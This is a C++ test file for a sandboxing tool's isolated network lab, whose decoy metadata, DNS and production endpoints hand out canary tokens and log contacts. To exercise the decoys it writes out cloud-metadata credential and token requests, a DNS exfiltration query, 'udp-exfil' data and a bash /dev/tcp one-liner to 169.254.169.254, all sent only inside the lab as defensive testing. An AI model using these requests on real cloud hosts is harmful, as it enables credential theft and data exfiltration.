// The lab against the real kernel: every decoy answers and logs from inside the lab; the lab
// reaches nothing else; the host's namespace does not carry a single decoy address; nothing is
// left after destroy, or after a crash and `gc`.
//
// Every packet these tests send comes from a thread that has entered the lab and checked that
// it is there (in_lab), to a decoy address. The host's namespace is only read (netlink).
#include "probes/lab/lab.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <thread>

#include "core/files.h"
#include "core/state.h"
#include "core/test_temp_dir.h"
#include "probes/lab/lab_addresses.h"
#include "core/netlink.h"
#include "tests/support/provider_fixture.h"

namespace sandgate::probes::lab {
namespace {

using sandgate::testing::TempDir;

ino_t inode_of(const std::string& path) {
  struct stat st;
  return ::stat(path.c_str(), &st) == 0 ? st.st_ino : 0;
}

bool is_mount_point(const std::string& path) {
  auto info = read_file("/proc/self/mountinfo");
  return info.ok() && info->find(" " + path + " ") != std::string::npos;
}

// Runs fn on a thread inside the lab, and only there: if the thread cannot prove it is in the
// lab's namespace, nothing is sent.
template <typename F>
void in_lab(const Lab& lab, F fn) {
  std::thread t([&] {
    auto guard = lab.enter();
    ASSERT_TRUE(guard.ok()) << guard.error().message();
    struct stat want;
    ASSERT_EQ(::fstat(lab.netns_fd(), &want), 0);
    ASSERT_EQ(inode_of("/proc/thread-self/ns/net"), want.st_ino) << "not in the lab: nothing is sent";
    fn();
  });
  t.join();
}

struct sockaddr_storage address(const std::string& ip, uint16_t port, socklen_t& len) {
  struct sockaddr_storage ss = {};
  auto* a4 = reinterpret_cast<struct sockaddr_in*>(&ss);
  auto* a6 = reinterpret_cast<struct sockaddr_in6*>(&ss);
  if (::inet_pton(AF_INET, ip.c_str(), &a4->sin_addr) == 1) {
    a4->sin_family = AF_INET;
    a4->sin_port = htons(port);
    len = sizeof *a4;
  } else {
    EXPECT_EQ(::inet_pton(AF_INET6, ip.c_str(), &a6->sin6_addr), 1) << ip;
    a6->sin6_family = AF_INET6;
    a6->sin6_port = htons(port);
    len = sizeof *a6;
  }
  return ss;
}

void set_timeout(int fd) {
  struct timeval tv = {5, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
}

// Connects, sends `data`, and reads until the decoy closes (read_reply) or closes at once.
std::string tcp_exchange(const std::string& ip, uint16_t port, const std::string& data, bool read_reply) {
  socklen_t len;
  auto addr = address(ip, port, len);
  UniqueFd fd(::socket(addr.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0));
  EXPECT_TRUE(fd.valid());
  set_timeout(fd.get());
  if (::connect(fd.get(), reinterpret_cast<struct sockaddr*>(&addr), len) != 0) {
    ADD_FAILURE() << "connect " << ip << ":" << port << ": " << std::strerror(errno);
    return {};
  }
  EXPECT_TRUE(write_all(fd.get(), data).ok());
  if (!read_reply) return {};
  auto reply = read_all(fd.get(), 1 << 20);
  EXPECT_TRUE(reply.ok());
  return reply.ok() ? *reply : "";
}

std::string udp_exchange(const std::string& ip, uint16_t port, const std::string& data, bool read_reply) {
  socklen_t len;
  auto addr = address(ip, port, len);
  UniqueFd fd(::socket(addr.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  EXPECT_TRUE(fd.valid());
  set_timeout(fd.get());
  EXPECT_EQ(::sendto(fd.get(), data.data(), data.size(), 0, reinterpret_cast<struct sockaddr*>(&addr), len),
            static_cast<ssize_t>(data.size()));
  if (!read_reply) return {};
  std::string buf(4096, '\0');
  ssize_t n = ::recv(fd.get(), buf.data(), buf.size(), 0);
  EXPECT_GT(n, 0) << std::strerror(errno);
  buf.resize(n > 0 ? static_cast<size_t>(n) : 0);
  return buf;
}

std::string dns_query(const std::string& name) {
  std::string q("\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  size_t pos = 0;
  while (pos <= name.size()) {
    size_t dot = std::min(name.find('.', pos), name.size());
    q += static_cast<char>(dot - pos);
    q += name.substr(pos, dot - pos);
    pos = dot + 1;
  }
  q += std::string("\0\0\1\0\1", 5);
  return q;
}

const LabEvent* find_event(const std::vector<LabEvent>& events, LabEvent::Kind kind, const std::string& decoy) {
  for (const auto& e : events)
    if (e.kind == kind && e.decoy == decoy) return &e;
  return nullptr;
}

std::string header(const LabEvent& e, const std::string& name) {
  for (const auto& [n, v] : e.headers)
    if (n == name) return v;
  return {};
}

// Whether anything of this process still holds the network namespace with inode `ino`: a
// thread in it, or an fd on it (nsfs reads "net:[ino]"). When nothing holds it and no mount
// names it, the kernel frees the namespace, and the lab's veth pair with it.
bool held_here(ino_t ino) {
  namespace fs = std::filesystem;
  std::error_code ec;
  for (const auto& task : fs::directory_iterator("/proc/self/task", ec))
    if (inode_of(task.path().string() + "/ns/net") == ino) return true;
  const std::string want = "net:[" + std::to_string(ino) + "]";
  for (const auto& fd : fs::directory_iterator("/proc/self/fd", ec)) {
    auto target = fs::read_symlink(fd.path(), ec);
    if (!ec && target.string() == want) return true;
  }
  return false;
}

// The names of the links in the host's namespace (this thread's; read, never changed).
std::vector<std::string> host_link_names() {
  std::vector<std::string> names;
  auto nl = Netlink::open();
  EXPECT_TRUE(nl.ok());
  if (!nl.ok()) return names;
  auto links = nl->links();
  EXPECT_TRUE(links.ok());
  if (links.ok())
    for (const auto& l : *links) names.push_back(l.name);
  return names;
}

bool has(const std::vector<std::string>& v, const std::string& x) {
  return std::find(v.begin(), v.end(), x) != v.end();
}

class LabTest : public ::testing::Test {
 protected:
  void SetUp() override {
    // A jail's mapped root must traverse it to reach its run directory.
    ::chmod(tmp_.path().c_str(), 0711);
    paths_.state_dir = tmp_ / "state";
    paths_.work_dir = tmp_ / "work";
  }
  void TearDown() override {
    // No lab may outlive its test: no record, no namespace file.
    EXPECT_EQ(sandgate::testing::count_entries(paths_.state_dir + "/runs"), 0u);
    EXPECT_EQ(sandgate::testing::count_entries(paths_.state_dir + "/netns"), 0u);
  }
  std::unique_ptr<Lab> make_lab(LabOptions options = {}) {
    auto lab = Lab::create(paths_, std::move(options));
    EXPECT_TRUE(lab.ok()) << lab.error().message();
    return lab.ok() ? std::move(lab).value() : nullptr;
  }

  TempDir tmp_{"/var/tmp"};  // on disk; made traversable in SetUp for the jail test
  HostPaths paths_;
};

TEST_F(LabTest, EveryDecoyAnswersAndLogsFromInsideTheLab) {
  SANDGATE_REQUIRE_ROOT();
  std::string events_file = tmp_ / "events.jsonl";
  auto lab = make_lab({events_file, ""});
  ASSERT_TRUE(lab);
  const std::string canary = lab->canary_token();
  ASSERT_TRUE(canary.starts_with("sgcanary-"));
  std::string get, put, google, get6, dns;
  in_lab(*lab, [&] {
    get = tcp_exchange(kMetadataV4, kMetadataPort,
                       "GET /latest/meta-data/iam/security-credentials/role HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", true);
    put = tcp_exchange(kMetadataV4, kMetadataPort,
                       "PUT /latest/api/token HTTP/1.1\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\n"
                       "Content-Length: 0\r\n\r\n", true);
    google = tcp_exchange(kMetadataV4, kMetadataPort,
                          "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\n"
                          "Metadata-Flavor: Google\r\n\r\n", true);
    get6 = tcp_exchange(kMetadataV6, kMetadataPort, "GET /latest/meta-data/ HTTP/1.1\r\n\r\n", true);
    dns = udp_exchange(kDnsServer, kDnsPort, dns_query("tok-5e1f." + std::string(kExfilDomain)), true);
    udp_exchange(kProductionHost, kProductionUdpPort, "udp-exfil tok-9a7b", false);
    tcp_exchange(kRegistryHost, kRegistryOtherPort, "tok-8080", false);
    tcp_exchange(kProductionHost, kProductionPort, "", false);
    tcp_exchange(kRegistryHost, kRegistryPort, "", false);
  });
  // The answers carry the canary.
  EXPECT_NE(get.find("\"SecretAccessKey\":\"" + canary + "\""), std::string::npos) << get;
  EXPECT_TRUE(put.ends_with("sgtoken-" + canary)) << put;
  EXPECT_NE(google.find("Metadata-Flavor: Google"), std::string::npos) << google;
  EXPECT_NE(google.find(canary), std::string::npos) << google;
  EXPECT_NE(get6.find(canary), std::string::npos) << get6;
  ASSERT_GE(dns.size(), 4u);
  EXPECT_EQ(dns.substr(0, 2), "\xab\xcd");
  EXPECT_EQ(dns.substr(dns.size() - 4), std::string("\xcb\x00\x71\x0a", 4));

  ASSERT_TRUE(lab->settle().ok());
  auto events = lab->events();
  using K = LabEvent::Kind;
  // Metadata v4: four connections, three requests with line and headers.
  EXPECT_EQ(std::count_if(events.begin(), events.end(), [](const LabEvent& e) {
              return e.kind == K::kTcpConnect && e.decoy == "metadata";
            }), 3);
  std::vector<const LabEvent*> http;
  for (const auto& e : events)
    if (e.kind == K::kHttpRequest && e.decoy == "metadata") http.push_back(&e);
  ASSERT_EQ(http.size(), 3u);
  EXPECT_EQ(http[0]->request_line, "GET /latest/meta-data/iam/security-credentials/role HTTP/1.1");
  EXPECT_EQ(header(*http[0], "Host"), "169.254.169.254");
  EXPECT_EQ(http[0]->local_address, kMetadataV4);
  EXPECT_EQ(http[0]->local_port, kMetadataPort);
  EXPECT_EQ(http[0]->peer_address, kMetadataV4);  // the lab's own source address for it
  EXPECT_EQ(http[1]->request_line, "PUT /latest/api/token HTTP/1.1");
  EXPECT_EQ(header(*http[1], "X-aws-ec2-metadata-token-ttl-seconds"), "21600");
  EXPECT_EQ(header(*http[2], "Metadata-Flavor"), "Google");
  const LabEvent* v6 = find_event(events, K::kHttpRequest, "metadata_v6");
  ASSERT_NE(v6, nullptr);
  EXPECT_EQ(v6->local_address, kMetadataV6);
  EXPECT_EQ(v6->request_line, "GET /latest/meta-data/ HTTP/1.1");
  const LabEvent* q = find_event(events, K::kDnsQuery, "dns");
  ASSERT_NE(q, nullptr);
  EXPECT_EQ(q->dns_name, "tok-5e1f.exfil.sandgate.test");
  EXPECT_EQ(q->dns_type, 1);
  const LabEvent* udp = find_event(events, K::kUdpDatagram, "production_udp");
  ASSERT_NE(udp, nullptr);
  EXPECT_EQ(udp->payload, "udp-exfil tok-9a7b");
  EXPECT_EQ(udp->local_port, kProductionUdpPort);
  ASSERT_NE(find_event(events, K::kTcpConnect, "registry_other"), nullptr);
  const LabEvent* data = find_event(events, K::kTcpData, "registry_other");
  ASSERT_NE(data, nullptr);
  EXPECT_EQ(data->payload, "tok-8080");
  EXPECT_EQ(data->local_port, kRegistryOtherPort);
  EXPECT_NE(find_event(events, K::kTcpConnect, "production"), nullptr);
  EXPECT_NE(find_event(events, K::kTcpConnect, "registry"), nullptr);
  // A connection that sent nothing logs its connect only.
  EXPECT_EQ(find_event(events, K::kTcpData, "production"), nullptr);

  // In order, numbered, timestamped; the same lines in the JSON-lines file.
  for (size_t i = 0; i < events.size(); ++i) EXPECT_EQ(events[i].seq, i + 1);
  EXPECT_TRUE(std::is_sorted(events.begin(), events.end(),
                             [](const LabEvent& a, const LabEvent& b) { return a.at < b.at; }));
  EXPECT_EQ(lab->events_after(events[3].seq).size(), events.size() - 4);
  EXPECT_EQ(lab->events_since(events.back().at).back().seq, events.back().seq);
  auto file = read_file(events_file);
  ASSERT_TRUE(file.ok());
  EXPECT_EQ(static_cast<size_t>(std::count(file->begin(), file->end(), '\n')), events.size());
  EXPECT_NE(file->find("\"dns_name\":\"tok-5e1f.exfil.sandgate.test\""), std::string::npos);
  ASSERT_TRUE(lab->destroy().ok());
  // The log stays readable after destroy (the judge reads it last).
  EXPECT_EQ(lab->events().size(), events.size());
}

TEST_F(LabTest, TheLabHasLoopbackItsVethPairAndNoRouteOut) {
  SANDGATE_REQUIRE_ROOT();
  auto lab = make_lab();
  ASSERT_TRUE(lab);
  auto nl = Netlink::open_in(lab->netns_fd());
  ASSERT_TRUE(nl.ok());
  auto links = nl->links();
  ASSERT_TRUE(links.ok());
  std::map<std::string, int> index;
  for (const auto& l : *links) {
    index[l.name] = l.index;
    EXPECT_TRUE(l.flags & IFF_UP) << l.name;
  }
  // Loopback, and both ends of the pair: the peer is here too, not in some other namespace.
  ASSERT_EQ(index.size(), 3u);
  ASSERT_TRUE(index.count("lo") && index.count(kLabLink) && index.count(kLabPeer));
  int lo = index["lo"];
  auto addrs = nl->addresses();
  ASSERT_TRUE(addrs.ok());
  std::map<int, std::vector<std::string>> on;
  for (const auto& a : *addrs) on[a.index].push_back(a.address);
  for (const char* decoy : {kMetadataV4, kMetadataV6, kProductionHost, kRegistryHost, kDnsServer})
    EXPECT_NE(std::find(on[lo].begin(), on[lo].end(), decoy), on[lo].end()) << decoy;
  // One /32 on each end, and no IPv6 address (no link-local one either).
  EXPECT_EQ(on[index[kLabLink]], std::vector<std::string>{kLabLinkAddress});
  EXPECT_EQ(on[index[kLabPeer]], std::vector<std::string>{kLabPeerAddress});
  for (const auto& a : *addrs) {
    if (a.index != lo) {
      EXPECT_EQ(a.prefix_len, 32) << a.address;
    }
  }
  auto routes = nl->routes();
  ASSERT_TRUE(routes.ok());
  ASSERT_FALSE(routes->empty());
  for (const auto& r : *routes) {
    EXPECT_NE(r.dst_len, 0) << "default route in the lab";
    EXPECT_TRUE(r.gateway.empty()) << r.dst;
    // The pair's routes are its own local addresses, nothing that leads anywhere.
    if (r.oif != lo) {
      EXPECT_TRUE(r.oif == index[kLabLink] || r.oif == index[kLabPeer]) << r.dst;
      EXPECT_EQ(r.type, RTN_LOCAL) << r.dst << "/" << r.dst_len;
      EXPECT_EQ(r.family, AF_INET) << r.dst;
    }
  }
  for (const char* local :
       {kMetadataV4, kMetadataV6, kDnsServer, kLabLinkAddress, kLabPeerAddress}) {
    auto r = nl->route_get(local);
    ASSERT_TRUE(r.ok()) << r.error().message();
    EXPECT_EQ(r->type, RTN_LOCAL) << local;
  }
  for (const char* outside : {"198.51.100.1", "8.8.8.8", "203.0.113.243", "2001:db8::1",
                              "2001:4860:4860::8888"}) {
    auto r = nl->route_get(outside);
    ASSERT_FALSE(r.ok()) << outside << " is routable from the lab";
    EXPECT_EQ(r.error().err, ENETUNREACH);
  }
}

TEST_F(LabTest, TheHostNamespaceCarriesNoDecoy) {
  SANDGATE_REQUIRE_ROOT();
  // Read from the host's namespace (this thread's) before and with a lab: never a packet.
  auto nl = Netlink::open();
  ASSERT_TRUE(nl.ok());
  auto links_before = nl->links();
  ASSERT_TRUE(links_before.ok());
  auto lab = make_lab();
  ASSERT_TRUE(lab);
  ASSERT_NE(inode_of("/proc/thread-self/ns/net"), inode_of(lab->netns_path()));
  auto links = nl->links();
  ASSERT_TRUE(links.ok());
  EXPECT_EQ(links->size(), links_before->size()) << "the lab made an interface in the host namespace";
  auto addrs = nl->addresses();
  ASSERT_TRUE(addrs.ok());
  ASSERT_FALSE(addrs->empty());
  auto routes = nl->routes();
  ASSERT_TRUE(routes.ok());
  for (const char* decoy : {kMetadataV4, kMetadataV6, kProductionHost, kRegistryHost, kDnsServer}) {
    for (const auto& a : *addrs) EXPECT_NE(a.address, decoy) << "a host interface carries " << decoy;
    // No route entry names the decoy or a prefix holding it; only a default route (this
    // machine's own, dst_len 0) would carry it, which is why probes run in the lab alone.
    auto want = parse_address(decoy);
    ASSERT_TRUE(want.ok());
    for (const auto& r : *routes) {
      if (r.dst_len == 0 || r.family != want->first) continue;
      auto dst = parse_address(r.dst);
      ASSERT_TRUE(dst.ok()) << r.dst;
      int bits = r.dst_len, i = 0;
      bool covers = true;
      for (; bits >= 8; bits -= 8, ++i) covers &= dst->second[i] == want->second[i];
      if (bits > 0) {
        auto mask = static_cast<unsigned char>(0xff << (8 - bits));
        covers &= (static_cast<unsigned char>(dst->second[i]) & mask) == (static_cast<unsigned char>(want->second[i]) & mask);
      }
      EXPECT_FALSE(covers) << "host route " << r.dst << "/" << r.dst_len << " covers " << decoy;
    }
    // And the host's own routing table does not call it local.
    auto r = nl->route_get(decoy);
    if (r.ok()) {
      EXPECT_NE(r->type, RTN_LOCAL) << decoy;
    }
  }
}

TEST_F(LabTest, EnterMovesOnlyTheCallingThread) {
  SANDGATE_REQUIRE_ROOT();
  auto lab = make_lab();
  ASSERT_TRUE(lab);
  ino_t host = inode_of("/proc/thread-self/ns/net");
  ino_t lab_ns = inode_of(lab->netns_path());
  ino_t seen_by_other = 0;
  {
    auto guard = lab->enter();
    ASSERT_TRUE(guard.ok()) << guard.error().message();
    EXPECT_EQ(inode_of("/proc/thread-self/ns/net"), lab_ns);
    // A thread started now inherits the lab.
    std::thread([&] { seen_by_other = inode_of("/proc/thread-self/ns/net"); }).join();
  }
  EXPECT_EQ(seen_by_other, lab_ns);
  EXPECT_EQ(inode_of("/proc/thread-self/ns/net"), host);
  ASSERT_TRUE(lab->destroy().ok());
  EXPECT_FALSE(lab->enter().ok());
}

TEST_F(LabTest, ProvidersStartedInTheLabLandOnTheDecoys) {
  SANDGATE_REQUIRE_ROOT();
  auto lab = make_lab();
  ASSERT_TRUE(lab);
  providers::ProviderOptions options;
  options.paths = paths_;
  options.self_test_weakenings = true;
  providers::Registry registry;
  providers::register_builtin_providers(registry);
  auto ns = registry.create("namespaces", options);
  ASSERT_TRUE(ns.ok());
  // A run that shares the launcher's network (the weakening), and a hardened one, both
  // created while this thread is in the lab; then the same request from each.
  std::unique_ptr<providers::Environment> shared, hardened;
  {
    auto guard = lab->enter();
    ASSERT_TRUE(guard.ok());
    ASSERT_EQ(inode_of("/proc/thread-self/ns/net"), inode_of(lab->netns_path()));
    providers::EnvSpec spec;
    // Landlock's TCP rule would refuse the connect even on the shared network: off too.
    spec.weakenings = {providers::Weakening::kShareHostNetwork, providers::Weakening::kNoLandlock};
    auto s = (*ns)->create(spec);
    ASSERT_TRUE(s.ok()) << s.error().message();
    shared = std::move(s).value();
    auto h = (*ns)->create({});
    ASSERT_TRUE(h.ok()) << h.error().message();
    hardened = std::move(h).value();
  }
  std::string script =
      "exec 3<>/dev/tcp/169.254.169.254/80 && printf 'GET /from-the-jail HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3";
  providers::Call call;
  call.argv = {"bash", "-c", script};
  auto r = shared->exec(call, {});
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_NE(r->stdout_data.find(lab->canary_token()), std::string::npos) << r->stdout_data << r->stderr_data;
  auto h = hardened->exec(call, {});
  ASSERT_TRUE(h.ok()) << h.error().message();
  EXPECT_NE(h->status.shell_code(), 0);
  EXPECT_EQ(h->stdout_data.find(lab->canary_token()), std::string::npos);
  ASSERT_TRUE(lab->settle().ok());
  int requests = 0;
  for (const auto& e : lab->events())
    if (e.kind == LabEvent::Kind::kHttpRequest && e.request_line == "GET /from-the-jail HTTP/1.0") ++requests;
  EXPECT_EQ(requests, 1) << "exactly one of the two runs reached the decoy";
  ASSERT_TRUE(shared->destroy().ok());
  ASSERT_TRUE(hardened->destroy().ok());
}

TEST_F(LabTest, DestroyLeavesNothing) {
  SANDGATE_REQUIRE_ROOT();
  auto lab = make_lab();
  ASSERT_TRUE(lab);
  std::string path = lab->netns_path();
  ino_t ns = inode_of(path);
  EXPECT_TRUE(is_mount_point(path));
  EXPECT_EQ(sandgate::testing::count_entries(paths_.state_dir + "/runs"), 1u);
  // The veth pair is in the lab, and neither end in the host's namespace.
  auto nl = Netlink::open_in(lab->netns_fd());
  ASSERT_TRUE(nl.ok());
  EXPECT_TRUE(nl->link_index(kLabLink).ok());
  EXPECT_TRUE(nl->link_index(kLabPeer).ok());
  nl = Netlink::open();  // the socket in the lab would keep the namespace alive
  auto host = host_link_names();
  EXPECT_FALSE(has(host, kLabLink) || has(host, kLabPeer));
  EXPECT_TRUE(held_here(ns));
  ASSERT_TRUE(lab->destroy().ok());
  ASSERT_TRUE(lab->destroy().ok());  // idempotent
  EXPECT_FALSE(is_mount_point(path));
  EXPECT_NE(::access(path.c_str(), F_OK), 0);
  // Nothing holds the namespace any more (no mount, no thread, no fd, no decoy socket: the
  // decoy thread is joined), so the kernel deletes it and both ends of the pair with it.
  EXPECT_FALSE(held_here(ns));
  host = host_link_names();
  EXPECT_FALSE(has(host, kLabLink) || has(host, kLabPeer));
  // TearDown: no record, no namespace file.
}

TEST_F(LabTest, GcRemovesTheLabOfAKilledProcess) {
  SANDGATE_REQUIRE_ROOT();
  Pipe pipe = make_pipe(O_CLOEXEC).value();
  pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    // The child makes a lab, says where, and waits to be killed.
    auto lab = Lab::create(paths_);
    std::string msg = lab.ok() ? (*lab)->netns_path() : "error: " + lab.error().message();
    (void)write_all(pipe.write.get(), msg);
    pipe.write.reset();
    for (;;) ::pause();
  }
  pipe.write.reset();
  auto msg = read_all(pipe.read.get());
  ASSERT_TRUE(msg.ok());
  std::string path = *msg;
  ASSERT_TRUE(path.starts_with(paths_.state_dir + "/netns/lab-")) << path;
  EXPECT_TRUE(is_mount_point(path));
  ASSERT_EQ(::kill(pid, SIGKILL), 0);
  int status;
  ASSERT_EQ(::waitpid(pid, &status, 0), pid);
  // The crashed owner left its namespace mounted and its record in place.
  EXPECT_TRUE(is_mount_point(path));
  EXPECT_EQ(sandgate::testing::count_entries(paths_.state_dir + "/runs"), 1u);
  ino_t ns = inode_of(path);
  auto report = collect_garbage(paths_);
  EXPECT_TRUE(report.errors.empty()) << report.errors.front();
  EXPECT_EQ(report.runs_removed, 1);
  EXPECT_FALSE(is_mount_point(path));
  EXPECT_NE(::access(path.c_str(), F_OK), 0);
  // The mount was the last hold on the namespace (its maker is dead): the veth pair goes with
  // it, and never had an end in the host's namespace.
  EXPECT_FALSE(held_here(ns));
  auto host = host_link_names();
  EXPECT_FALSE(has(host, kLabLink) || has(host, kLabPeer));
}

}  // namespace
}  // namespace sandgate::probes::lab
